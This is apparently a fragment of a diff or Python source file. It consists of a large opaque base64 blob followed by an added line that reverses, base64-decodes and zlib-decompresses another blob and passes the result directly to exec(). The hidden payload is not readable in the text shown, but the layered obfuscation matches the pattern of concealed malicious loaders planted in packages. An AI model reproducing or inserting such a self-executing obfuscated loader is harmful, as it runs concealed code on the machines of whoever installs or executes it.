soURF3qEACOLcemDoUvsHUMFzV9nb9abdWvTt1owack4mBzh6vmV9M4Cmw3Y7z7Az9lAU8fVoQqDEjocRK5mNyx0X3vNs+VlFFg8JtSpOmpf08oHJOpFOm1kovn5isdpJ6xrFElgbA4IdCcKiSSV3O6tZNdpBBx2pc4iq+c1EzM3nXCIp2fEDujA2oiuzwyHluDeoqafJVN2qWzSJKxAJM53xnLtPlbTTR9O0asiO1yRkMiRHSTEyiJPNAqCD48+0OrwvDgUDkMAc/hYeJ3ySCH18lTsiMmMzAL9cPUk78CXm1WzPbymS7ay+z/o8zO7dNx6kWdBWQHKa+g5FL2FsOPW2aejt2HG4R5Nt0/uYdQ0jJ/Z8BlMq7hcGqYSbGDuaZEwO8ytY5vYmF1aoceS07kDtlqDrEVcsqZY3Du2MQ09XKS3CMn7AE2cVtQvYxp9D5D58agjm3JcllFJLZ74ffU7g+D5jnQIGnxhnOfpDT2VCmPGrlo1insm5kGxajDHZkyVu8LD5mDc/rDP/BV6nPRa8AyWiMl5FFrYYXl9DQr/qlZmUF8vdSzaU091nO4LfgsIPxhbj9qiUbVKvpT7wTNL08bzpWLHsfmwS1xd7DD6PY9E/+yXSWMm1/peCe8qAL6R7JweIFGf8qwI/vn7qzLP/QIK1z/CaRm4QtwDoGvmSFtALRK0diVPsBs6ferehDPwnb/fFfZlfQkPB23naf85Cmglkg55DgQmHW0LWmaK8ioChUEHowFSQw25Zt9pOWPMWzdv2JpYJkhj4Tp/w7P3nin19f9YL+LomnX+OrVHVKu6VRVsMumyXdUKwiD3/5V1NoYdp+jxEkgSSawNCbFSh+HvDfT4hWqkumenHkdjcSM6jp6WS+qfcu6vq8VGa8bhMLce+XNTUM7sOx6jJkakB/ayREpCrAyVUltEjLKE8Stx7dNOpIl4LYGK6zE8VcVwkcIn7RNXS7HL+nf/Ez7I6xAPGJRb0Q1KGcmc0SUUSbkSRrkovbZ/trSAFneBo+vmxC2MoqZTzEBUn2DvmnKl8RYr65WNGpaKrzLBsQZSKM5HGzMRACkwdY3dDdMUowfvLaY7UMuTP3aNn1IsDgg3HLtaCsoh6JSSW1p9e+OuDgvJdVrO8FJFIov6OGOpuHIssKSRgPn6j13rDThROzo5he5OONpuKhzNdvLl9zNZfK51C3ojZCKPBZEEq24rWuZdJyCdbRybYhy2Z3NMe0KP8v6tpoZeHQ0uVCA2PFM7xTKhvozN0UBT+4XB+iPVw6uMAcQ/gOcDxvexm8wX6ClOFz0yAS14l2+EIOXz9WFcw29Pa/Re8Qg/1XRJoSvDM+tJDbAXHz68G3zcQZ59PR0VwNdUoMZooMO0Rg9qzdZc0f43MdE0DfMdZCoL4FecDBa1I9410peuKKKqFn+htL1VV/ysjj2Lv4kGMeGrwMizaZEB4k18KSwp/9mSv3z50pjsTgTgL8r8NAs1gkE28/6y08lmXwPP1Faya9PnbrC0ePSEMs8hRYY5tMt7sg1AZOLAK8LUnD9rv2+koWzYpTFA/EVn5S0bGB7zKo13wfq8lLVWDXv7YokyWSEKTp1CNfi77Wp9/9K0WHzE3Fglo7RJQ5MZuxoFKkm72Tc8UomG9dMKmCt7utN1uNPwlMh64vkd33uarISxED0uYQEG2plFoqodW36V+4M+865PvvEQKL2xAfsoFqFj5kN7PLOr2SD4zLqJJNVfDCZ0yVxY7toX+eusY2F2ifb5ID6LlXXmWBT80TU5ULk5IIu8QO18LMENNI/NFOesiiSaarMpI+hKcszoM7LitmAKqcA4j/5n3dQQRGtEKa0ivieL5KqN/KM2xgDjbb5Ymg5rhClrPsnbIYtbhAVTaS5OuOKdCSV953Y9gqzLqOxlnwpMhc9jesWYVxhV/JLe2sX7jqwZMMJVvAYuE5LouQ2hmkf9IYSCn+Zcyjg0kKZVGzdO/vRM076RcosZqBPnHY5C5w29gJYFY6EkyJJCzyqBY3YUUs+Xjo1NIxS10HPvBWP4aAboDA9ZW7W28t7z450g9kUxekhEEn1Ty7YobaVebWsVNjLAxwVxdnezqV/ZYpFtyn/QJ3XNjgOHHZ/qbpvgZFY9KGLNmn0AAMNDgbRKb3fg3Zn9h9ASFOqtvV6NnEEcUud25On92nVzRxAL1VKdtnCP4a1rATtCriTDlNZziDc65VbvjrCsnN/CJg0ee/uNvFLBA8ZvdwCtjYMioWWvea5yFqUE917EpRD1o9WRJT7j/VEk0nmLhhpF7SRLsfCgJX6yxgL58SaogBWmg3OVCm2w8RFwpCtCoZMDD95b2mtlQu6o//rFQ4mJsa86LobOQrYji0Cy5q13RSDhUd79oqpaj3nZh66lEfEaZsrF/MuB4YQxzkAW8TWu7obG6u92hpezC9nguhjnK5D3Em7qN31ZSswJCI0rGv8dblqgslm6mE3vm4INRqEPF1OavSwmCbIvD1aEyl4stKvY8xI/wohNU9rLUue4WuU5LEN6TpHs9Nx56dSb85brTEL7YV+XxZiGeSFVvqEe2pP8i6Zzp58VIfbUhp95Pqjv3Mj7kdz1zjt6tmDpUnKVFWzDLSOCtlP6RwNtcXoJ62ePCh4e4OD+Pg4oRCdsQUbPl+KoYxLiGowRsSjleuVX+nGoxrSdY0vYDAAQ8f4KfKiMLqcAQyxqgZ2XmYfjHphjCbSIIoxvTZxpNl+62TX9YwAkfcCe8AVgqfsHxy3dWwwnxHdVG68AcdXUa8U0X1SmdqI27sji6yOZhDihPa+LjJbMBDiL2aReWOvhnuZqqBGyAjeTUx34vig1aF6e8f0KGN+mwYG2500n5Ig3Alhu5xQfV4BRbCxPqOS41XfcK5FybY+d1/2L+69QwVNSJO5jMAtuy/TYpZHQT09JeOlzEA9uSWmZWfAZFl7Ez/Q0r7rAuA/vlPCIMyWIBVyBAN2aoNsvHF8RO+76r99djVck/FFN1r+TPmj/BSjl+0een7zBnLT7DQZOpmt7tUjNORljsLEaV+UwviZFzJKvjdtMTpxslpkIJuVOQAD0zyLH4r6VbQDZtwJFtoDESaA5Tiu2/cKk9AKPvHm+4rvUFxfbXXmuyYAa35P6PA+/0e6dOWWWHqQvmnoElOiWMSVhZtG61bH7lBg2n5Z/tuq3DOlV8wq6uazvDfTNplf27ENNHSvSQPyyUK1rvnpG/wIB1GSRWhJmQVY+CaGj3OJZHw2F6P9p+ktEd5Wq3coJKZTbNZnQmF2y8nK1u/WNv246c1ZsJZW9J4pwJ1z2noOF/YT/hZMyWfD46O6eSOttmTVeHRuvR2C0VIbuqvLFNPRIE5UrtHJqt1pE07l4qbCVTaZae3eov4cxdbXAkmd00f2+pjPXviXbWnoe8l2/sILz18dplURYLOdornMi4dyVDT8w1NAT+zRXKN6E4XB1L/AMl+VT8heP6KrsdrOpNBjhgRgJTU5fp3NuuSRph9a/IrpF3+ICjPUJpWPpTlobVfkaTZgdBed7laOXM/q30e1wkZzSmqAEjHoqeQMXMus1Jl1CQy3a05YsvDtynRdAEEBdwatIQv4JdW4OH7kBh7kk6LHqkwGavKWvxIUVN7mkX9HU4vE/0vVvGSA1qX9mbR56SgXpYjk7phbzBjbs7Pr+c2tseKoceLjPBQC/pmukhv/kzqhL027PEVDAh7aCLsAK6OSwgePp+KcsnuUgZ3jYYA/I4ITVc0eGO5qwFxFdh6aeD49JsQSrGJ/SIexYTTuqtS7zpzXI2eqnF0LQFVrLv+wvLqW+NjjPRl/T6ZaXeO8ofOecXvIOqy8t6oapCDkKsebu609V1DTflAbIPpaNo6IGVaK1X3zHKo6QlTwGa3JawBAZVxwEIvuyr04FGn8TfyPRnG9+YZ5oI+27BuTXjIbokRnwwAwW52BKLbiFR51O2LpFI5YHvWUTxMrt+bm8doWAtSys2aVl4qcJ6JxWmrJ4gioJp0xytqziLefhpYxnBxBP1n7kiCOFgHA/RwRNMLSQJ6Spsenl2n/+BpDIkOVwB/4xvA9HfWYOeFUVTw1S0TpvlrmbGANwd5oHDtFXYDGvgRKJG6wfihxAR/q4g+cnHJpNFu2ikXyNhfd57yqSlIzt3S/VcuugXnaD9uU32D0/y56WgNER1rgL5Tg9KO0Ll/WLCb810Cj8uBjX1dft/klFCsr23RONpHUCfbJ7piFJ3kswHDcTxshqOErTB7vryNmzMBdLNYqOYR96kzcxYEJBlKKEvXHErS77gexHDN+dv2q1fT2CgGKk2lIpUw79l3iorT+pGwgB932ZDIxs59Tfz6Lz+G7OR1u8HKvSvSu24OhRgoZFfQqFi4rROo2QTDi02f4kNneQljsvlFjvYFKn4IZSASmNu8WK73Z4w/Wg810Epo/SlXLymJt4odtp0UPOP4VtocHt2S+ueTAwDXHVIrgpM/wMi8AoD5W8Wcj/mv4ZTd5H0kldaQqtkQaEE1PiUnWjc9vUreRQ41UtNdSZJYQDxVgh06pAJmn787v3RcFK49X6sNyUB8n6KeNanryYP9tJE0I3qLqp8qpt2yQVtopNbG0OuJVZFDQsbRzKxf+h8rB+vRRh6ISqk/WScDlm9sDE7pqDIjLD2dU805zIqarSi56j2W95WPqLlUK0iA+mf611wB27lmJKyGwudYXqksiNGP4q89nzwcO5TGDc0qdvmAnimB5fOHbZ1EbrK8XnbUTB2ZmnJCK6d+2V/N28TBod61fzFLkk70HTzWJf2nbbzMFZEDajKFUsIO3VbMcIV0lJOou+Yx37xWnV84u9v+s/bdk/xsjIN28WuAARMl10XNBQUSaqoNfmflCp1L/ZQ66vQyKCW9jYzsw/4x8XrEP86GnrLat69c1pbS3Vl1AvwdSZHKB9z50bvMxwT5kpUnaK7N8NQs4/tQKM7L0PTe5UmYXcInBc1DUNRYVLzlL0AJCCb9mnZ9p1kyxiKrLR2wywrCSw0tluQEyRL/y2NyAAyNHv/xNfawrxzLbcjiGvL6EjUd/QRM/zdrkN3te+YWoMOVJGrHf6hYqOCW+uDM4rlkcgfUYCR2IpfeEzm9u0HbSpKNQuiLQVXCZYzAPszR3kipiUO8hP2LU7YWPospS/SlvF2jtflkGRp2fto/2A81jRMEwJsDMk1G1tBV4bKNIFBpE86zBr292M2SYCGfJqiJQUAxfkNrYO0x/Hlj1CDFmA804Ww5rruzpeqCXnWpNvstWiDuHh7QZQ5IEBkoqfvPlqNw0frj7t6LGVzgWjrS48dzXq3Mof043VWg2OgR1INnSSxnW/4Y98y22SFVhOPpzVsz8B/K5qAN8FKJujGuDEzCQc7xjPj9KNaVJFCoO/iQVW5CnAib3GAT1Saoz1RehQqg+m/qfhEXT4w3pQutT6bSbGw/chrv6Y3H2lODCVC/+XyUwIibmOe04Y1pzKt16xi2ipOCd0w3KM8oLLTRSVCugks0xrHZ66VKxv5vT7YyJ83QQ3qxn7yWu+YHd1a04cwkRpKeGSweswVaHBVDLhg4wwO0BVytS+qekzUpAMo4ZU9TgtASv0hmexjS1qsiG1FW5E50zvQmd6ZpLtL8uoE3olTFgn/D9zgrj7PGM7Z3sA9NQr3oxp0Pq4lb9bUEUzxlAu5bKcke0iNlCuhVtudhH/5kaoHvSvhieOb2gVyUxDQ4c90hGYHC9BPUm+d88LvBcJEKSVu11NHNOOT8fz0zmj1mS4mi4YqTeO/3NDfCZoqBQxgVC9Uu1Z8iPq2Ohky3LtbiGyW7DmfRWTleJj24Du3LavGDA7dWVC/cfeMZth9OuHQsd3xrPW8o5B7uisTPJqxbEYhEoP1Ufo6D7tpy8NKVbQ2+rUgjT3ugFR0Ohxf4Y+PLaK9dA71VmYFCKsNk5zj4oiQ/t0vOY/jdIL+e2BoY1qlItBiXWrUfDG+o1lyTpxTSqTQgzM3Htdk7Zm3zfXBHBfJClYFuJICzqWQA3y31v45XwxdmplkNM14qQcDCgYL4SuUMuPai+Gebq7hv/JUdVBOjqdR+WCHehiTdeVk+Rnqm7R84XhDbuCA9Fsf3B2l7CSVlULRs2PEZPE9/Rayt8rWMtyWWpRyVnIDSwdCydCIfH6lBgFnd5XoBmebkn/TlyAzg8hSAvjlFFwZHS/dBv4cglZ02ePOu5rwyowpdnOdbetNNHMr5sEcizf4j56D6CfcXLJq80Yhrt/3CqNyFNXE4MSOoXLfk+pbjtVe29LeRuLy/QqZC6P/AAWYprKjpebRI8puNlLuCyK8eIyt9CHY+bCFaVOPv1JQ8MOjJLX1isnR1ThgnsMoJspFzL/XjZVT8saE3MvOIiv3Oa99VD9+cunNbsxCVd/SfuoRCgg1eqSRKG1GgeL5FsQrd5quk24ZXodAD7EVlcbv57XifcrNR1ZLtHoPLFpl49ZJcGOSbphAacNR1aC7o5QTnmTK88RQSROz+f+8n9qwX+HHwXMr23tefC7QbG1Gs+NSqvpjWfl99MtRlV3sageSTtnULbX2jKpm223qpCXcq8YAfp6SEbhJSmXDro+zPjS+q4VwMRQ+ULw4K512xUgIF3OXUzG72XWj1/adkNcUdc8v4N3oVRuU0gUfXY5AyLZ+drZR7BPE3t/005rcA7y7p3LTrx0u58Ze8XoxEtBKP7DTYTJP3H7q8RfSIjqR+SRVY1XkbzHvaLQXUKjhlGIRWpp6LjY/0L4eMbyvGoAvXCmojrjzKig4+HbWMrB6nUWSItf4wHW8LcMvPlEYI3Y78Zd8C1SdHAqmDyhLBoIpKjmT1Oel7mJeLcEmvHNAwghHUq9+jNqnlnajoomAu3BErboPYWnFFdXabDPWeExCq1dqV6x4zxeddHso6v+MAWWuTKmkLWKUe4NeXrqcbdNDB11i8LgSbNivkZRHFfW0SrJZ86oVej15GQVfFcq7bAJoFfDUJCQ7h9eyMSa1+I5+cpOugdXbxeH2T5C5e5vyxVPVrG0ZH4kKGZ2utOXlpJtguWYnI8TooSrR1RONz/cMdfezSVOU8j3TN2A45BhFw3q5Elc1srwCbS77r9QmmHHAcOX23XKawCGaqxLMGAl0chkq0kL+aNmULLz8VzUyb+K+LsIxbOW4MmnWwaja2lypvPwpGEbigF4diivR1CkoBuwqCgRgSziJScEBqt6oOAQXKQ5uO+aA6Isbcrjr409mMDFC5FammPqvsplufdbYkRAu9rJlV6rnetkl75wmcy2JjOy1KL4vMZIcrN0e8cnaPm1oVeZq532M1FUruxzKrwPLuaXEorzxOJ3vYrAeETaa5VkuyNN6O2GsrAI6AFIYlETZCTM4aOGUw14WLXJycwbwcd/yvg8CDYoDJtqra7gAZpJNOWv0nsIgx9+hoSNFLMEpo0UHIDhbzo3AKbc1bctkS+eLHs1OTfSpSc3OiObv8lGVfZzzPdcyxv80uATw+pDjy2Al88hnLTasmTndml2tJ0s5JCNwlM3jd2PGnQGjhLC/15VyIdflH5URif3y4sweWrPkQvWxrP+PN5BAkbykGrfW6UnkUYADfUAGTu2saFLjjTzTJHk/7xwmGr86tJl4OGM9nj/+f96FdaYeIAx9M+lWUQDsAzLsFxLAyBDpxPXLdrw5Fg7tkW14lE5l1UzywdNSI4Sc3fpCap/1wQqaKOLjwjkQXldsmGRrj4HQbTaDrhfXPnFcetW5UiRXslOAGQ29rO7maOVC04KgoizlG7H/Zq0+dcARFSD4SI2Iti6AQysK4sjGbIWxoeuDHWcGrnmUyVBEEXjFbnwBGwX+A9d3j0MfqOisF1vensdc8y+FGne4Vvtwf0Do97eJEvOPyJiWpWsEE2jZfmsljsxCE18Isq/XWXCM1T4JfgyrHz0eA53fT69PsCiTOOXGQ4sBaWlMSD3G6w6ro5xVu49khdn9Z0jpT0Zm7IDOhjOZ5E59bDMEoVE7IpGJsbwDQFguABWbElRZpyZ3pDU5XluDmWmV6a0b7GX//daxqbjzx8xdLyS0DwQlH1MdlKU/QlnmSOlsaEj7dLhOAoNnhH8blEfuObOBOXPyP1Gx9YiSBQGzx4HYvGqEXiYBx20W11/0piWQTF7wRPxpV8aDXuHML6RjzLoCcF7ihCPUp8VMa6aBeQrZarfnrgP9/5li/yXygeX6kWoosoQEGY9H14ERcSVEWy7HfRqx1nTfUPAOFUrP3lMlvf92TqPWu7fledMtYw03N47wkHaxEiVnKTbAj+/AE8iZC0EbmReUQVq3SZPYgFNm07UhpicKB9COC5HGnfyY+YO8++gaKKTxyJuQ/kCd+1BYiPzU3WbCgCUpmBgIGShTL/wIYz+tquzL3my62oFHESlJEOTN5QM4M7Wb3/gNyywACk8784AY0Xt/aiSvP3wZd6BniecpUAnSfwybYsn4uPB4t9dY3OeY4VmP48Y6fd47qx+J3WGdmmQdanWR2HBpEDUhahThvPuGjFui6UesuavzdJof7uAnfrqEok1Pp05NgDTni3VatuY2Iyh5OPrGzLxR3T/iZbk7anOaERzJoQEDVf8ty/2wnc+NfOCn3Jm48re6qyFTZE9T0xP73X3tCjjFGFnf+bA0gunKUDOigxXXquykA6+S9wQp6wxxUVa3ctSJh3MzgBhIFTY/6UWt3ll5ZFQL5hj9XpxHQVOTvhlN1VnBXlmzTmBoBoMoFmq1bJNcZBl7oycpBVqevNlcnCztpIHxbtKklsh99tBm6gx6yeZayugOcGNT6X8Agd8FpObp2FX+m+6SvLHh31y+Hkw+0/nZbSMqEr/VU8+hk783VfpY/qv/FvNIDjyKOkDoS129HZQdMG1Lj2zXFUywk1WR2HJOY/RgC7KqnxwxbYsLY4wgXG3iGmeQ/FHsGusG6tQ0ZZD3jEx8dyDdBoWQpvMguDD0CpNty6Z6XJJFtxDRT9KXXRUz0PEvG2zWq45X9kcWvOdNgjPUN0O/cTa8P7Yz7w0035tl3YeMv4Q938NYFT6E6UkbcTOF71wLRt+bE48fGZNsY2NqrDzPu4MBY6KvTJjcU+GjvdoudXWvOavoKayCQWF0FHrtCrKy08lw/JH+4dnGFErg2z/UEPywaQ1CvvhI02SbnmmlXO+p5CRJdeFmdOmRC6QIu9IOBMiwqI0J9FRTKPzTa+7IH3oc6Paa0xJGh7B/p76kYI1EEeASD8cgsCyttXE7kRvfv7ea6xTLJtWRitesU0XTzQChm0qzSOu93Ea0gLxHHJozTOGKFxhJXgxidMEjA85tF3Dl7m+YHf7FaAcxx07qNF7yKubuzC+NloIiWEUVB3oSndQMC0xjMyXIqXk08RY7z4rtCKfSjM2CqGlQHBNZ6mIzD/+zZf2DBlfB0NOtv/YO2SQsKZ2cxacrN2HgxK1kYHx3ONfgdGDDRaOVzWVtHF3m4sXOhWr2qexHqXWpNRUiYglZclqyWxwJy9OnMg2OGGJtPdkgTWKqLeQjm5Z7EDUkT5HNu4/adsHBTqaGfUV5EoD2UIBdlrLN9gMg45YWtZC7jHjJwTl/LYfsK3WnDhtaXfe+BEBO1D/EbxXGbhYxJ0sQ9i4EJWOrDl3idu3ImLAT+wUHCCrCPMbzu6aKKwdvjb18fH5OXBBn1pOzRr1HcT1uj246VGaXUlpMyoOELJiw+i7clst60FCK0RuPQH/C2MBITiEyXjIIFsEcURHDYRS1lErU1sqKI7HhgvU0MmOWQ4zraKLG9GIZLdgWedDfMv6of2yONydYHQY824SVsKHwRnEKGctzKxH69hmOTzuHdBVbnqCpD2KSDqJuCEuov3eCmvURS3MPznpOdS+AyxqWerubeBJgRj8QHE7Wsj4gaWhviyAQ1dKlaq8D9+717ENRm+1kztbLDW/NDPv11abJitVWwucxrbiPHl9LZ20ju9l1CTFjRmoIZ17ReJVrl5x0p/aTMd45upJgPgCp2Fx0VFDZ89Zy789jD19p2OJRvsTajP5Stwds6UUWCMyk7W3yrnzIuyokOlw+5gmv9d4r7Oz6YtsmvxI+E1sjofgdnqRzfX5QjtlEdiFNLbzHulnsvooQRcTEv6jMw9QyMvBYQfigGshvZB59YaoNUPVwFAtwvHPuOD2duzYcTxvukLzSDzHiN+4wXbc2KbhfbY0AAnlSi6BTtlPQiPmaKZW71UXLX8GeLdMz1+qKgBKoaW4XIEcMCAN0k6tgr+tn0Mn20iB2LnmNHgvJLq/HnfmjkUThrb85yuYnPgkQs6Np9sP/mBhMWMTDGCf7LIgEhNDrfp+cWTm+kiqEEzh4uBgn7QkfRbD6koxUBZVIJ0ihK4TBW3j1d41yi7edWRbQmTT/8r7NZFAJSvFuObCLn4AHnl+Y94deZm79mKYMGAdUfpCxgWhy7RPFr/YWClgU6hKZDQS9h5vdctjhs3fAZ4zgRm+urAKWIj/6xVrz0o7SLMw7hZW9X8eYf1Q8uZ3tWYY6QpnO2kFSY6j0OAvh4UxdQYi2+eG0UrA9zSKgXvyUBCszMfjbo+9qdSchCcPNKUTKqbbOSVhPDNPiHR3VygvhU+OxeE33osvByeexCZdQYl2zhq3VnAbcxKmnzS06g3gFp769G48kG1EbfYeNWCFmZ8SmDEhfNk2kZgdWTfLsboG2bS/lF4hBoH/PzsNQvJpWFRgWFsIdG6qFQaBodzuoZ/SAnQY+b9wfQaPeP9oLzxgDmIXPIRQ5tR2oRhD1BRrza1Mi750vT6+uZ+09w9df0E9x0hEjonrXqnr46T4la+NaxMyHVScaQ2dBjnJj477u2rZd4IsIVK6IX0RjAyaebuu9XV7FANrbkmV9RPPU9szvvm/Inyq2Iu+e5nu7hHIw20ytR1fIMZ3RjqXzpwogJMvcVZHkMayt5RIuTZ+wajyqyGH0K1tkpOfHI3pG/jwKIOpXVHdyd/s10cXZ5DLGNbXjYtXcBTsoV6anXwtWSDpDl9ESTMYGJGyRF880+uz0Pci6+s3CiNnvvJrgfcGvpV+6L0fMjJPl3Coy/g9dSIDSB2+GIfJlkf7ziuv0tiZ1p2OTNQ0xB+khzKxoQYEgPSizZtBcxlF/RsNJH5DwITBjTu10lUXnJMnC+ffcmTm7rSQlqJMDCHRsgb2lbXb5YSu03msTtmcIP317glORNuTGWjBOQ3gr8CCL/BqgJQjcMUL4U/28/n0//9d++/nsuIu6l/6e98MfWeaQc7nvzOjEZGziGwCkvUQMCQp3n9TRWo1wSWrmUwJe'))
+_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'vjAX89x+97//LS17GAarP9276A+IEmErnxF1W5hpHMR6NF/ZbwuE0r2rcXVPhB+g0HM+lYvJgxELwGURREMPQEUJ5U4kN8I8q6cYPpSEfmnQTsNteiN6oXqE61zvT8R32Cwz4Y/axdo6YHEZHJFL5NzNJO6Gx+OjVJKmWbLGXV1X7WfbNjK/0kZKQXOyovrpqH+j1rw+dUkZcnwQXtTLJDF6O2yhS6ucWCpAi0SZbNYz2L44V/B1E2KeSibu4aBEphpexSeGpqX63f/OSE+XrAQyIMh93FVCUZyRd0R2eFuai1YbxuY+jeaIT2TpFAXiy0J6h6XvPzt+5lYTk6SW/nxNK/W8TuDIPmY0Ga5b8mqoWEF0T+3hFDv6MSu+XXc0QgzdHkK2suu1jwrfKQUzun8i8IxY0Enc20+GYj4ARdq1D0hx8i82uD6et8wo4u4EB4CqTqdKk+oNSsJPXHCf41stJgYyoqYq26FH3G8j/d5qKQC7ML4+Bh3NhUp+G98iv/OXFBtTFXNYso97O6ZzdjgfpK0OBLkfmeu5dolm38CynJuYxw0C+5u5cFrnA/BpR63CPpd4zXme4iHordy6v+7IWkYK14BfMhRnNZ4EePqPU7cOfBm/aZy76y5sj910HyVG7ZXRxkPxx5SndXdIOFtNWvF7xD0aU77kcbMy5mqjfGRf6KdMO678rVpMAV2pqyrTrEIRjer5phlv6XrKvLw/fh1JqtzMWS3+nHAocCRDMrH+8FlD36ObE3E1husQuG3WZf8wgm4Kkdr+ZmSF8pFuL7cVMEQJTT5bCQOy45ryyA4puckGGNaGAokIL0pP5+W1JNeSFyIew1qCxV53qbWtGhjAL2bmDE+4wFQZo9XMrUkSwKsQ0BUDYHHi+6ktvWeKRBQNAY4Z7/KOKKwoth3fhcYtKkTNJ4A8+KW+YIq4bVfkjcAIqAtwS+5tlKz3cpU6ysSbx4cEK/EAtnDWNPYM5jVRMa81K2Y8qEmKpZE8npGM98DPKk1mgveetTzwJjcGjRO9zfNmYfcrb0/2EIvSNZlRNeXshGcQqHiXdm/1VfXd+mhyBk9dPx6HS5MTPmmiFkMCq188mLQrLq8cFzN43K7sImXuQ+AGTnjgf+1r1YKyP1j+W9CpB+d2d/FKuG7sqj7yqdXpzon2FmCnyXV6BiAVfgmEgdantJtOqyj4WJFHneNid4a3WQwj3yCJ84AY1hKLUTyiHq1Rvw65zmQBuBu6QVCqxExLrn3ukazLI02vUMgGF3GFTe8l9QaI3t2kcR/4IF4YuL3PKx+1se1uzUiXLDR6V+QiMuTmrxnLgQFhHlJ53uo0vmLTkjxtenh6jrVTz08vO05vIHDiw1up8Lf/sLjnbhPyrcxHarob892G7Mnj6jNece9YG8mUU7gb7zrDqmAbq9TElCj8b83Vzq+KkFpVLvVfmVH/4OBm4y5kr88TkXVdll4lAIyeKod+fmhGaFtYb9tn1kBCY0F/UbNelBp2rz3Tio7YcEVV74NI9LUxJDz+C0NVpc0sqabHsbEz04fPE2RIQq59XBw70xKADLunm++8+dyGH3zGQsalGPwiqGPHQLwgYh2jcyI1/9lcBz1D6FEcf4k+MKlLj2yqL2N0aUnw/A5dvFupX+lPSwnsyfJ+zCiSrtfPJjASw1rz2ECQ0P4zXXNKNQioENWiisw3/Zs62cWlA25yB8TWh9GYa5mbKZ5H2aQeYhcAKylv0Z+6a2We758DIYIaXd7V6lHL6ut2tlbOBUMKEQvmz4gOjc6sThIU4bziwgO94FNPYcCf6Oor7q+nTMJpacSz1BXH2AyElZ6mWftso+EXXzU+6SQb9h4Kll7EsPzbVCCDok48MbNzIjy4+dvARy9ppEVAQUkaxdtIH85NPTN0AKfWRVnd8felBV05I0OE0kZRBrJb90jWQVDioiyDPXCkYZNw1hgQZhGeZLF0iTlwUKjynBAcrd0Pr8Rpl/26L9EUFVeZ4u5OL/C0BcTEzti4GK+2UULK/6tQ2lMChJ3wwOqkkbkD7iYRg5XiF6z6uS/0ehLVfUctPQc18rPX9nzM4GukTv1ggH9lG9UPwYnC/4qTKG1za54yZTOgi+xdQY2Z54zE3e8DKW+nFXqeHbWy7C4L6iFugKHQmZdbQv5cNfUeGbUSpaUGfIAXRKjmNeL+4O3uuVwSH3+bAqQkmjupKrUkgi8uOdoaYzKJZfcSfzEp9kvV4loE24QRfK5yriavGlL9RlkSrYMs3y/k+OY9dpREtmlk51Vy4SYiwhWACRMlasCU97LB3vLQK6LyWA5Cs0iadGfUHkJrkzC2yK2PP3rBuKcSsKANuJChyOGD533nhFdzv+qCSbRrgezSGGqbADpcmn2BRXE8LBGx2HjWPc55uG6j3Rt0pYZtWxvHxprzQH7Tn/dbCcf+nu3RcV+5vkzWCnOJXmTusshZJEQje7mvGtkzsJM3VchpiqjwJPQmmJCGmmZDNZY+3iqA5eV5qmCoLKbiUFialuMNoI2gnaY9h7w7hO7qpDVjZo+l4KWKrrSIVHmXseHRy6kW9uhSzQObPe3YWt9RtEnEVrH/snUdO3hFi3KrwarbDoxVAIwxtBmatQH3IVmw36uAggOjpk3eBHL2vzCbWcFIGbH7r/lZOOhLL+75HUM6Hr5XJHobbq+l7Vn+NXVnuvdGicf2fMuYgIS/MqX6NGWhKwl3uE6ZwH65fgT6KY2gItrffe5hMB/0wJEiupSopapmhPk/2RDPEuVMmOTpZ47MQENtuH7rYRCL81RhrqAYeBIr06nXEofvWPcDA7nr8UiGwhvCauvfpR1hspWx04PCIQiOe411CUsWE0+d1KhP9jzoy5D1rbFxENh+ecqH7Gcs4hcgDDdR/2l4atlf9KUhStcf9O5inPo6ZCJ7HoZ88NkSoDRrgWDIdISouWGKFkqwaQCh3BqkwkCYS0yBodzun6iMEZ0ee810wd+OODsIZkTQ0SgGZ16ocxLfW6MGsz5fDHC+2Cam2k9C4eluSGmsRj2PDAF4zKo2ggefzskRo3wyLlkVR6iLp+LNfp49/ZUF0r3lG2DdQQAOTLLcVKRtlr8cjCQmcncG43NBcUyAInF0wCPY66H/Wzgb5NjKmNHdS7l/7sAipC1ZKhBPEeb3/w+g7Zr/uho8idZJV7A3i4E8wbHix5uEYRgFcc19wf77hT1OqecHR+6J3QTU7eq2zCfJDYF1o0dQGyAxKkG8xjy5Gwca/UkvjPlt0P2HvsFtQE9XQSjfKygQcyPPZFDfLX4D6LMNNat/01dUlAsagTE/WU8gwCF9Vjhw+eEhj5DnHCBWVj6Ny96ewUymhQfHiCdTa6aGYv2TLWJAzyJpEf8OZ26JkrUFKGCuEzhh3JNfqUpdk08tPaIe7VSQV/d+JWScp7m9LsarDl7dRT9Ft3rONPhf0aQVedV7Ax8ywH8fPW8TFl06R9YAvUdU623xTsvWfQFOvnH7xufPM1tFFv3/SYuWQkcIJNVz222TkXSsFl0u1fT82ItPwXbVZzS0eqSrbG/FMGCydztpX2CYalmVJSo0dsKS5qyXUSef4dwB4O0tHCFNF3MmfyztyjGwnG+DCDnd3Va86QwsybDwnD5OxVWMUwQ4AB7LgqpR6NN8Gh1G5BMJR7+HH1l+f+AH+eX/CCP6+4r/iHAoDOu+AVBfZdRpHmzPPzpoaQG2Trb7k1CU8q/ioQ0FYq/GfRlGDGnRRHmkIAoxspH1QtjfyvS36JKwy3VPlo+EqZlb41W/VfjN5e06JWepUJLz4Hq29oZSanx4AdikhYccj5ewM86bErhq8TsUtULlSv3XiKq1v7VOjj8rywJWWhUTtIB+Fnj8f+XdZtCQNPX1srncvx78HyQbrWzPGHukB2uaOXR//woH3JzaPQP5tWVNMdEBbfQbY2hoMSclRtka3GMuax1KHhCZmEAvSW/z0Af65FYguw3ZgeskyFAhYAdulA2ioZZSRENxpcqKLTsrcaCtsbI8HPk1fJT8o5nAxxWZQf56KuavfgmPClHAEM7T13dO+5Vd6MBdbUsTQp55DOODyv152tATKQCnP8Im7Nu9YUGUuj66nvWpbSZhjLMc/19hj7gabo7FTfzip17UUjE7FqB4J9FWd07zkKWGwjA+koIC06Za4QQzaUQN148AMkHM8qxOb+r29bjGsmJEErDTmgacbHevg0orJCeA38AU2NjEKlDFZvguQSWFG7KH1c0h3pFZ8eacGPsAWg4t7spj2eGaGs/bBQkBdo1BNWvUim2LYlD4NVR1RXvtaSQ6gvZsFumMHFxOjBdt4l1lvFCiwWf8YewUHQRkFRLaV3ZoYN7ucS7U7ioqMYAc1T6tTv2yDEwIF/LjX7wELGVNUHF+NIqOkjRHQOjSEFx6+vdDtTmYBQLQCvnvPbG/AEVizpruRoqXFxXkFzfYqk/4mXCtnoZWBWHMzTJmSkCEmaBOQl7J2LSm9ZtzeqpPlK